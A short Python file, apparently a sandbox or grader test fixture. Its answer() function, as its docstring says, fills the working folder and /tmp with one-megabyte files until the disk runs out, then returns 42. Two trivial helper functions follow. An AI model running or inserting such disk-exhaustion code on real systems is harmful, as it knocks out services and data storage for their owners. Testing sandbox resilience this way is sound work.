"""answer() writes 1 MB files into its workspace and /tmp until the disk says no, then answers."""
import os


def answer():
    written = 0
    for folder in (".", "/tmp"):
        for i in range(100_000):
            try:
                with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                    f.write(b"\1" * (1 << 20))
                written += 1
            except OSError:
                break
    return 42 if written < 100_000 else written


def add(a, b):
    return a + b


def total(x):
    return float(x.sum())
